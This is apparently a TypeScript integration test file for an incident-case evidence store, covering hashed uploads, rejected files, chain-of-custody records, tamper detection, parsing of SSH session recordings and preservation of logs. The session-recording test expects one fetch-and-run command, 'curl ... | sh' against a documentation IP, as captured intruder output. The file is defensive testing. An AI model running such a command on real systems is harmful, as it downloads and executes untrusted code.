// Case evidence on a real database and a temporary evidence folder: uploads to disk and to the
// database with the SHA-256 taken while streaming, empty and oversized files refused with
// nothing left behind, a failed commit leaving no row and no file, custody (added, downloaded,
// verified) from the audit trail, tampering found by verify, recordings parsed and searchable,
// preserved logs that are exactly the chosen records and outlive the originals, and a case the
// viewer may not see that does not exist for any evidence operation.
import { createHash, randomBytes } from "node:crypto";
import { mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { gunzipSync } from "node:zlib";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { db } from "@/lib/db";
import type { UserViewer } from "@/lib/auth/viewer";
import { createCase } from "@/lib/cases/create-case";
import { addEvidence, commitEvidence } from "@/lib/cases/evidence/add-evidence";
import { listEvidence, openEvidence, verifyEvidence } from "@/lib/cases/evidence/evidence-records";
import { preserveLogs } from "@/lib/cases/evidence/preserve-logs";
import { receiveToTemp, storedFilePath } from "@/lib/cases/evidence/store";
import { stopBoss } from "@/lib/jobs/boss";
import { ingestStream } from "@/lib/ingest/ingest";
import { flushDerived } from "@/lib/ingest/derived";
import { closeIngestPool } from "@/lib/ingest/pg-pool";
import { findOrCreateSource } from "@/lib/ingest/sources";
import { makeViewer } from "../support/db-helpers";
import { auditRecord, flowRecord } from "../support/tailscale-records";

const FIXTURES = path.resolve(__dirname, "..", "fixtures", "evidence");
const run = randomBytes(4).toString("hex");
const saved = { dir: process.env.EVIDENCE_DIR, storage: process.env.EVIDENCE_STORAGE, max: process.env.EVIDENCE_MAX_BYTES };
let dir: string;
let security: UserViewer;
let coo: UserViewer;
let employee: UserViewer;
let reference: string;
let sealed: string;

const sha = (b: Buffer | string) => createHash("sha256").update(b).digest("hex");
async function* chunks(content: Buffer, size = 1000) {
  for (let i = 0; i < content.length; i += size) yield new Uint8Array(content.subarray(i, i + size));
}
const upload = (viewer: UserViewer, ref: string, name: string, content: Buffer | string, declaredType?: string, description?: string) =>
  addEvidence({ viewer, reference: ref, file: { name, declaredType, stream: chunks(Buffer.from(content)) }, description });
const rowsOf = (ref: string) => db.caseEvidence.findMany({ where: { case: { reference: ref } } });
const filesUnder = async (sub: string) => (await readdir(path.join(dir, sub), { recursive: true, withFileTypes: true }).catch(() => [])).filter((e) => e.isFile());
async function readAll(stream: AsyncIterable<unknown>) {
  const parts: Buffer[] = [];
  for await (const c of stream) parts.push(Buffer.from(c as Buffer));
  return Buffer.concat(parts);
}

beforeAll(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), "evidence-test-"));
  process.env.EVIDENCE_DIR = dir;
  delete process.env.EVIDENCE_STORAGE;
  delete process.env.EVIDENCE_MAX_BYTES;
  security = await makeViewer(["SECURITY"]);
  coo = await makeViewer(["COO"]);
  employee = await makeViewer([]);
  reference = (await createCase({ viewer: security, input: { title: `Evidence ${run}`, severity: "HIGH" } })).reference;
  sealed = (await createCase({ viewer: coo, input: { title: `Sealed evidence ${run}`, severity: "HIGH", visibility: "COO_ONLY" } })).reference;
});

beforeEach(() => {
  delete process.env.EVIDENCE_STORAGE;
  delete process.env.EVIDENCE_MAX_BYTES;
});

afterAll(async () => {
  for (const [k, v] of [["EVIDENCE_DIR", saved.dir], ["EVIDENCE_STORAGE", saved.storage], ["EVIDENCE_MAX_BYTES", saved.max]] as const) {
    if (v === undefined) delete process.env[k];
    else process.env[k] = v;
  }
  await rm(dir, { recursive: true, force: true });
  await stopBoss();
  await closeIngestPool();
});

describe("uploading evidence", () => {
  it("stores a file on disk under its SHA-256, with the audit entry and a timeline entry", async () => {
    const content = Buffer.from(`suspicious binary ${run}\n`.repeat(500));
    const { evidence } = await upload(security, reference, "../../etc/dropper.txt", content, "text/plain", "Found in /tmp on db-1");
    expect(evidence).toMatchObject({ name: "dropper.txt", size: content.length, sha256: sha(content), storage: "DISK", kind: "FILE", contentType: "text/plain" });
    const row = await db.caseEvidence.findUniqueOrThrow({ where: { id: evidence.id } });
    expect(row.path).toBe(`objects/${sha(content).slice(0, 2)}/${sha(content)}`);
    expect(row.bytes).toBeNull();
    expect(row.description).toBe("Found in /tmp on db-1");
    expect(await readFile(storedFilePath(row.path!))).toEqual(content);
    expect(await filesUnder("tmp")).toEqual([]);
    const audit = await db.auditLog.findFirstOrThrow({ where: { action: "case.evidence_added", targetId: row.caseId }, orderBy: { seq: "desc" } });
    expect(audit.after).toMatchObject({ evidenceId: evidence.id, sha256: sha(content), size: content.length });
    const entry = await db.caseTimelineEntry.findFirstOrThrow({ where: { caseId: row.caseId, kind: "AUTO" }, orderBy: { createdAt: "desc" } });
    expect(entry.data).toEqual({ evidenceId: evidence.id, sha256: sha(content) });
    expect(entry.body).toContain(sha(content));
  });

  it("stores a file in the database when EVIDENCE_STORAGE=db", async () => {
    process.env.EVIDENCE_STORAGE = "db";
    const content = randomBytes(20_000);
    const { evidence } = await upload(security, reference, "memory.bin", content);
    const row = await db.caseEvidence.findUniqueOrThrow({ where: { id: evidence.id } });
    expect(row).toMatchObject({ storage: "DB", path: null, sha256: sha(content), size: 20_000, contentType: "application/octet-stream" });
    expect(Buffer.from(row.bytes!)).toEqual(content);
    const opened = await openEvidence({ viewer: security, reference, evidenceId: evidence.id });
    expect(await readAll(opened.stream)).toEqual(content);
  });

  it("refuses an empty file and writes nothing", async () => {
    const before = (await rowsOf(reference)).length;
    await expect(upload(security, reference, "empty.txt", "")).rejects.toMatchObject({ code: "BAD_REQUEST", message: expect.stringMatching(/empty/) });
    expect((await rowsOf(reference)).length).toBe(before);
  });

  it("refuses a file over EVIDENCE_MAX_BYTES while streaming, naming the limit, and leaves no temporary file", async () => {
    process.env.EVIDENCE_MAX_BYTES = "4096";
    const before = (await rowsOf(reference)).length;
    const error = await upload(security, reference, "big.bin", randomBytes(5000)).catch((e: unknown) => e);
    expect(error).toMatchObject({ code: "PAYLOAD_TOO_LARGE", message: expect.stringContaining("4 KB (4096 bytes, EVIDENCE_MAX_BYTES)") });
    // Announced too large: refused before a byte is read.
    const announced = addEvidence({ viewer: security, reference, file: { name: "x", declaredLength: 10_000, stream: (async function* () { throw new Error("must not be read"); })() } });
    await expect(announced).rejects.toMatchObject({ code: "PAYLOAD_TOO_LARGE" });
    expect((await rowsOf(reference)).length).toBe(before);
    expect(await filesUnder("tmp")).toEqual([]);
  });

  it("refuses content that contradicts its declared type (415) and a non-type", async () => {
    // A real 1×1 PNG.
    const png = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==", "base64");
    await expect(upload(security, reference, "report.pdf", png, "application/pdf")).rejects.toMatchObject({ code: "UNSUPPORTED_MEDIA_TYPE", message: expect.stringContaining("image/png") });
    await expect(upload(security, reference, "a.txt", "hello", "not a type")).rejects.toMatchObject({ code: "UNSUPPORTED_MEDIA_TYPE" });
    const { evidence } = await upload(security, reference, "shot.png", png, "application/octet-stream");
    expect(evidence.contentType).toBe("image/png");
  });

  it("leaves no row and no file when the row cannot be written after the bytes were placed", async () => {
    const content = Buffer.from(`placed then refused ${run}`);
    const received = await receiveToTemp(chunks(content));
    // PostgreSQL refuses a NUL in JSON text: the insert fails after the file was renamed into place.
    const failing = commitEvidence({ viewer: security, reference, received, name: "x.txt", description: null, kind: "FILE", contentType: "text/plain", text: null, meta: { bad: "\u0000" } });
    await expect(failing).rejects.toThrow();
    expect(await db.caseEvidence.count({ where: { sha256: sha(content) } })).toBe(0);
    expect((await filesUnder("objects")).map((f) => f.name)).not.toContain(sha(content));
    // A text file with a NUL past the sniffed head is kept (not as searchable text).
    const nul = Buffer.concat([Buffer.from("a".repeat(5000)), Buffer.from([0]), Buffer.from("b")]);
    const { evidence } = await upload(security, reference, "nul.txt", nul, "text/plain");
    expect((await db.caseEvidence.findUniqueOrThrow({ where: { id: evidence.id } })).text).toBeNull();
  });

  it("leaves no row and no file when the case refuses the evidence (merged away)", async () => {
    const other = (await createCase({ viewer: security, input: { title: `Merged away ${run}`, severity: "LOW" } })).reference;
    const survivor = await db.case.findUniqueOrThrow({ where: { reference } });
    await db.case.update({ where: { reference: other }, data: { mergedIntoId: survivor.id } });
    const content = Buffer.from(`only for the merged case ${run}`);
    await expect(upload(security, other, "late.txt", content)).rejects.toMatchObject({ code: "CONFLICT" });
    expect(await rowsOf(other)).toEqual([]);
    const names = (await filesUnder("objects")).map((f) => f.name);
    expect(names).not.toContain(sha(content));
    expect(await filesUnder("tmp")).toEqual([]);
  });
});

describe("session recordings", () => {
  it("parses a .cast, keeps its output as searchable text with time offsets", async () => {
    const cast = await readFile(path.join(FIXTURES, "ssh-session.cast"));
    const { evidence } = await upload(security, reference, "ssh-session.cast", cast);
    expect(evidence).toMatchObject({ kind: "CAST", contentType: "application/x-asciicast", sha256: sha(cast) });
    const row = await db.caseEvidence.findUniqueOrThrow({ where: { id: evidence.id } });
    expect(row.text).toContain("curl -fsSL http://203.0.113.50/x.sh | sh");
    expect(row.text).not.toContain("\u001b[");
    expect(row.meta).toMatchObject({ width: 100, height: 30, sshUser: "root", srcNodeID: "nAbC123CNTRL" });
    const found = await listEvidence({ viewer: security, reference, q: "x.sh" });
    expect(found.items.map((i) => i.id)).toEqual([evidence.id]);
    expect(found.items[0]!.matches[0]).toMatchObject({ at: 3.125, line: expect.stringContaining("curl -fsSL") });
    const bySha = await listEvidence({ viewer: security, reference, q: sha(cast).slice(0, 12) });
    expect(bySha.items.map((i) => i.id)).toEqual([evidence.id]);
  });

  it("refuses a malformed recording with the line, storing nothing", async () => {
    const before = (await rowsOf(reference)).length;
    for (const [file, line] of [["bad-json-line.cast", 5], ["wrong-version.cast", 1], ["out-of-order.cast", 7], ["not-a-header.cast", 1]] as const) {
      const error = await upload(security, reference, file, await readFile(path.join(FIXTURES, file))).catch((e: unknown) => e);
      expect(error).toMatchObject({ code: "BAD_REQUEST", message: expect.stringContaining(`Line ${line} of the recording`) });
    }
    expect((await rowsOf(reference)).length).toBe(before);
    expect(await filesUnder("tmp")).toEqual([]);
  });
});

describe("chain of custody", () => {
  it("records each download, and verify finds a file changed on disk", async () => {
    const content = Buffer.from(`keylog ${run}`);
    const { evidence } = await upload(security, reference, "keylog.txt", content);
    const first = await openEvidence({ viewer: coo, reference, evidenceId: evidence.id });
    expect(first).toMatchObject({ name: "keylog.txt", sha256: sha(content) });
    expect(await readAll(first.stream)).toEqual(content);
    await readAll((await openEvidence({ viewer: security, reference, evidenceId: evidence.id })).stream);
    expect(await verifyEvidence({ viewer: security, reference, evidenceId: evidence.id })).toMatchObject({ ok: true, actual: sha(content) });

    const row = await db.caseEvidence.findUniqueOrThrow({ where: { id: evidence.id } });
    await writeFile(storedFilePath(row.path!), `tampered ${run}`);
    const tampered = await verifyEvidence({ viewer: security, reference, evidenceId: evidence.id });
    expect(tampered).toMatchObject({ ok: false, missing: false, expected: sha(content), actual: sha(`tampered ${run}`) });
    await rm(storedFilePath(row.path!));
    expect(await verifyEvidence({ viewer: security, reference, evidenceId: evidence.id })).toMatchObject({ ok: false, missing: true });
    await expect(openEvidence({ viewer: security, reference, evidenceId: evidence.id })).rejects.toMatchObject({ code: "CONFLICT" });

    const item = (await listEvidence({ viewer: security, reference })).items.find((i) => i.id === evidence.id)!;
    expect(item.custody.map((c) => [c.action, c.actor])).toEqual([
      ["added", security.email],
      ["downloaded", coo.email],
      ["downloaded", security.email],
      ["verified", security.email],
      ["verified", security.email],
      ["verified", security.email],
    ]);
    expect(item.custody.map((c) => c.detail?.ok ?? null)).toEqual([null, null, null, true, false, false]);
  });
});

describe("preserving logs", () => {
  const node = `nEv${run}CNTRL`;
  const otherNode = `nOther${run}CNTRL`;
  const base = Date.now() - 2 * 3_600_000;

  it("copies exactly the chosen devices' records of the range, with a manifest, and they outlive the originals", async () => {
    const sourceId = (await findOrCreateSource(`evidence-test-${run}`, "IMPORT")).id;
    const mine = (at: number, action: string) => auditRecord({ action, target: { id: node, name: `db-${run}.example.ts.net`, type: "NODE", property: "ACL_TAGS" } }, at);
    const records = [
      mine(base + 60_000, "UPDATE"),
      mine(base + 120_000, "APPROVE"),
      mine(base - 3_600_000, "DELETE"), // before the range
      auditRecord({ action: "UPDATE", target: { id: otherNode, name: "other", type: "NODE" } }, base + 60_000),
      flowRecord({ node, peer: otherNode, at: base + 30_000, entries: 2, seed: 7 }),
      flowRecord({ node: otherNode, peer: `nThird${run}CNTRL`, at: base + 30_000, entries: 1, seed: 8 }),
    ];
    // The other node's record names the flow reporter's peer address only when it is our device: give it an unrelated one.
    (records[4] as { srcNode: { name: string } }).srcNode.name = `db-${run}.example.ts.net`;
    (records[5] as { srcNode: { addresses: string[] } }).srcNode.addresses = ["100.99.0.9"];
    (records[5] as { virtualTraffic: { src: string; dst: string }[] }).virtualTraffic = [{ src: "100.99.0.9:5000", dst: "100.99.0.10:22" }];
    await ingestStream([Buffer.from(records.map((r) => JSON.stringify(r)).join("\n"))], { sourceId });
    await flushDerived();

    const from = new Date(base);
    const to = new Date(base + 600_000);
    const expectedAudit = await db.$queryRaw<{ n: bigint }[]>`SELECT count(*) AS n FROM audit_events WHERE event_time >= ${from} AND event_time < ${to} AND (target_id = ${node} OR actor_id = ${node})`;
    expect(Number(expectedAudit[0]!.n)).toBe(2);
    const expectedFlows = await db.flowRecord.count({ where: { nodeId: node, windowStart: { gte: from, lt: to } } });
    expect(expectedFlows).toBeGreaterThan(0);

    await expect(preserveLogs({ viewer: security, reference, input: { from, to, devices: [`nope-${run}`] } })).rejects.toMatchObject({ code: "INVALID_INPUT", message: expect.stringContaining(`nope-${run}`) });
    await expect(preserveLogs({ viewer: security, reference, input: { from: to, to: from, devices: [node] } })).rejects.toMatchObject({ code: "INVALID_INPUT" });

    const { evidence } = await preserveLogs({ viewer: security, reference, input: { from: from.toISOString(), to: to.toISOString(), devices: [`db-${run}`] } });
    expect(evidence.kind).toBe("LOG_EXPORT");
    const row = await db.caseEvidence.findUniqueOrThrow({ where: { id: evidence.id } });
    const gz = await readFile(storedFilePath(row.path!));
    expect(sha(gz)).toBe(row.sha256);
    const lines = gunzipSync(gz).toString("utf8").trimEnd().split("\n");
    const manifestLine = JSON.parse(lines.pop()!);
    const parsed = lines.map((l) => JSON.parse(l) as { type: string; record: Record<string, unknown> });
    expect(parsed.filter((p) => p.type === "audit").map((p) => p.record.action)).toEqual(["UPDATE", "APPROVE"]);
    expect(parsed.filter((p) => p.type === "flow").length).toBe(expectedFlows);
    expect(parsed.filter((p) => p.type === "flow").every((p) => p.record.node_id === node)).toBe(true);
    const overall = sha(lines.map((l) => `${l}\n`).join(""));
    expect(manifestLine.manifest).toMatchObject({ count: 2 + expectedFlows, audit: 2, flow: expectedFlows, sha256: overall });
    expect(row.meta).toMatchObject({ manifest: { count: 2 + expectedFlows, sha256: overall } });
    expect(row.text).toContain(`Overall SHA-256 of the record lines: ${overall}`);
    for (const l of lines) expect(row.text).toContain(sha(l));

    // Retention removes the originals: the preserved copy stays whole.
    await db.$executeRaw`DELETE FROM audit_events WHERE target_id = ${node}`;
    await db.$executeRaw`DELETE FROM flow_records WHERE node_id = ${node}`;
    expect(await verifyEvidence({ viewer: security, reference, evidenceId: evidence.id })).toMatchObject({ ok: true });
    await expect(preserveLogs({ viewer: security, reference, input: { from, to, devices: [node] } })).rejects.toMatchObject({ code: "INVALID_INPUT", message: expect.stringMatching(/nothing to preserve/) });
  });
});

describe("who may see evidence", () => {
  it("a case the viewer may not see does not exist for any evidence operation", async () => {
    const { evidence } = await upload(coo, sealed, "sealed.txt", `sealed ${run}`);
    for (const viewer of [security, employee]) {
      await expect(upload(viewer, sealed, "x.txt", "x")).rejects.toMatchObject({ code: viewer === employee ? "FORBIDDEN" : "NOT_FOUND" });
      await expect(listEvidence({ viewer, reference: sealed })).rejects.toMatchObject({ code: viewer === employee ? "FORBIDDEN" : "NOT_FOUND" });
      await expect(openEvidence({ viewer, reference: sealed, evidenceId: evidence.id })).rejects.toMatchObject({ code: viewer === employee ? "FORBIDDEN" : "NOT_FOUND" });
      await expect(verifyEvidence({ viewer, reference: sealed, evidenceId: evidence.id })).rejects.toMatchObject({ code: viewer === employee ? "FORBIDDEN" : "NOT_FOUND" });
    }
    // An item of one case is not reachable through another.
    await expect(openEvidence({ viewer: coo, reference, evidenceId: evidence.id })).rejects.toMatchObject({ code: "NOT_FOUND" });
    expect(await db.auditLog.count({ where: { action: "case.evidence_downloaded", after: { path: ["evidenceId"], equals: evidence.id } } })).toBe(0);
  });
});
